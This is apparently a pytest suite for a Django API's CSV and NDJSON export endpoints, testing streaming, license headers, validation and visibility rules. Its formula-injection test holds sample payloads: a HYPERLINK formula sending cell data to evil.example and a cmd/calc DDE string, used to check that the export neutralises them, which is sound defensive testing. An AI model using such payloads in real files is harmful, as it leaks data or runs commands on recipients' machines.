import csv
import io
import json

import pytest
from rest_framework.test import APIClient

from core.publishing import Status
from tests.factories import (
    ActorFactory,
    CitationFactory,
    EventFactory,
    ParticipationFactory,
    QuoteFactory,
    SourceFactory,
)

pytestmark = pytest.mark.django_db


def body(response):
    assert response.streaming, "exports are streamed, not built in memory"
    return b"".join(response.streaming_content).decode()


def test_csv_export_streams_the_whole_filtered_result_beyond_one_page(api):
    putin = ActorFactory(slug="putin")
    for n in range(130):
        event = EventFactory(slug=f"event-{n:03d}", country="RU" if n % 2 else "CN")
        ParticipationFactory(event=event, actor=putin, role="initiator")
    EventFactory(slug="hidden", status=Status.DRAFT, country="RU")
    response = api.get("/api/events/?format=csv&country=RU")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["X-License"] == "CC BY 4.0"
    assert response["Link"] == '<https://creativecommons.org/licenses/by/4.0/>; rel="license"'
    assert response["X-Source"] == "Relations, http://testserver/"
    rows = list(csv.DictReader(io.StringIO(body(response))))
    assert len(rows) == 65
    assert {row["slug"] for row in rows} == {f"event-{n:03d}" for n in range(1, 130, 2)}
    assert rows[0]["participants"] == "putin:initiator"
    assert list(rows[0]) == [
        "slug", "title", "type", "type_name", "quad_class", "start_date", "end_date", "date_precision",
        "location", "country", "participants", "sources", "quote_count", "summary",
    ]  # fmt: skip


def test_ndjson_export_starts_with_license_and_source_then_one_record_a_line(api):
    QuoteFactory(text="first")
    QuoteFactory(text="second")
    QuoteFactory(text="draft", status=Status.DRAFT)
    lines = body(api.get("/api/quotes/?format=ndjson&fields=text")).splitlines()
    meta = json.loads(lines[0])["_meta"]
    assert (meta["license"], meta["source"]) == ("CC BY 4.0", "Relations, http://testserver/")
    assert [json.loads(line) for line in lines[1:]] == [{"text": "second"}, {"text": "first"}]


@pytest.mark.parametrize("resource", ["events", "actors", "quotes", "sources"])
def test_every_list_exports_csv_and_ndjson(api, resource):
    QuoteFactory()  # a published quote, speaker and source
    EventFactory()
    for fmt in ("csv", "ndjson"):
        response = api.get(f"/api/{resource}/?format={fmt}")
        assert response.status_code == 200
        assert len(body(response).splitlines()) >= 2


def test_export_of_an_invalid_filter_is_400_not_a_stream(api):
    response = api.get("/api/events/?format=csv&date_from=2022-13")
    assert response.status_code == 400
    assert not response.streaming


@pytest.mark.parametrize("resource", ["events", "quotes", "sources", "actors"])
@pytest.mark.parametrize("export", ["csv", "ndjson"])
def test_export_with_a_malformed_cursor_or_page_size_is_400_not_a_stream(api, resource, export):
    # Found by schemathesis: a whole-list export ignored the paging parameters the schema declares.
    response = api.get(f"/api/{resource}/?format={export}&cursor=%C2%A9g%C2%88")
    assert (response.status_code, response.json()) == (400, {"cursor": ["Invalid cursor."]})
    assert not response.streaming
    response = api.get(f"/api/{resource}/?format={export}&page_size=0")
    assert (response.status_code, response.json()) == (400, {"page_size": ["Use a whole number from 1 to 100."]})
    assert api.get(f"/api/{resource}/?format={export}&page_size=5").status_code == 200


def test_unknown_format_is_400_naming_the_formats(api):
    response = api.get("/api/events/?format=xml")
    assert (response.status_code, response.json()) == (
        400,
        {"format": ["Unknown format: use one of csv, json, ndjson."]},
    )


def test_csv_export_values_survive_quoting_and_empty_fields_on_either_database(api):
    # PostgreSQL writes the CSV itself (COPY), SQLite through csv.writer: a reader gets the
    # same values from both, empty text and missing dates as empty fields, lines ending in LF.
    event = EventFactory(
        slug="tricky",
        title='Talks, "frank" and long',
        summary="Line one\nline two, with a comma; and “quotes” — ✓",
        location="Port\rLouis",  # a lone CR: csv.writer quotes it only when told to, COPY always
        end_date=None,
    )
    putin = ActorFactory(slug="putin")
    ParticipationFactory(event=event, actor=putin, role="initiator")
    QuoteFactory(event=event, speaker=putin)
    source_id = event.citations.get().source_id
    text = body(api.get("/api/events/?format=csv"))
    assert text.startswith("slug,title,") and text.endswith("\n") and "\r\n" not in text  # LF, as COPY writes
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows == [
        {
            "slug": "tricky",
            "title": 'Talks, "frank" and long',
            "type": "04",
            "type_name": event.event_type.name,
            "quad_class": event.event_type.quad_class,
            "start_date": "2022-02-04",
            "end_date": "",
            "date_precision": "day",
            "location": "Port\rLouis",
            "country": "",
            "participants": "putin:initiator",
            "sources": str(source_id),
            "quote_count": "1",
            "summary": "Line one\nline two, with a comma; and “quotes” — ✓",
        }
    ]


# Spreadsheet formula injection in CSV exports -------------------------------------------------


FORMULAS = ["=1+1 summit", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0"]


def test_csv_cells_that_start_a_formula_are_neutralized():
    source = SourceFactory(title=FORMULAS[1])
    event = EventFactory(title=FORMULAS[0], slug="formula", summary="+44 20 7946 0000", cited=False)
    CitationFactory(event=event, source=source)
    ActorFactory(name=FORMULAS[2], slug="at-sum", description="-1 and a\ttab")
    ActorFactory(name="\tTabbed", slug="tabbed", description="Plain = text")
    api = APIClient()

    def export(path):
        body = b"".join(api.get(path).streaming_content).decode()
        return list(csv.DictReader(io.StringIO(body)))

    events = export("/api/events/?format=csv")
    assert [(e["title"], e["summary"]) for e in events] == [("'" + FORMULAS[0], "'+44 20 7946 0000")]
    assert [s["title"] for s in export("/api/sources/?format=csv")] == ["'" + FORMULAS[1]]
    actors = export("/api/actors/?format=csv&ordering=name")
    assert [(a["name"], a["description"]) for a in actors] == [
        ("'\tTabbed", "Plain = text"),
        ("'" + FORMULAS[2], "'-1 and a\ttab"),
    ]


def test_an_editors_csv_and_ndjson_name_the_same_links_and_the_publics_only_published_ones(api):
    from tests.editorial import member_of, token_client

    event = EventFactory(slug="hub", cited=False)
    public_source = CitationFactory(event=event).source
    draft_source = CitationFactory(event=event, source=SourceFactory(status=Status.DRAFT)).source
    ParticipationFactory(event=event, actor=ActorFactory(slug="public-actor"), role="host")
    ParticipationFactory(event=event, actor=ActorFactory(slug="draft-actor", status=Status.DRAFT), role="observer")
    QuoteFactory(event=event, source=public_source)
    QuoteFactory(event=event, source=public_source, status=Status.DRAFT)
    editor = token_client(member_of("Editor", "csv-editor"))

    def csv_row(client, query):
        (row,) = csv.DictReader(io.StringIO(body(client.get(f"/api/events/?format=csv{query}"))))
        return sorted(row["participants"].split(";")), sorted(row["sources"].split(";")), row["quote_count"]

    (_meta, line) = body(editor.get("/api/events/?format=ndjson&status=all")).splitlines()
    ndjson = json.loads(line)

    assert (
        csv_row(editor, "&status=all")
        == (
            sorted(f"{p['actor']}:{p['role']}" for p in ndjson["participants"]),
            sorted(str(s["source"]) for s in ndjson["sources"]),
            str(ndjson["quote_count"]),
        )
        == (["draft-actor:observer", "public-actor:host"], sorted([str(public_source.pk), str(draft_source.pk)]), "2")
    )
    assert csv_row(api, "") == csv_row(editor, "") == (["public-actor:host"], [str(public_source.pk)], "1")
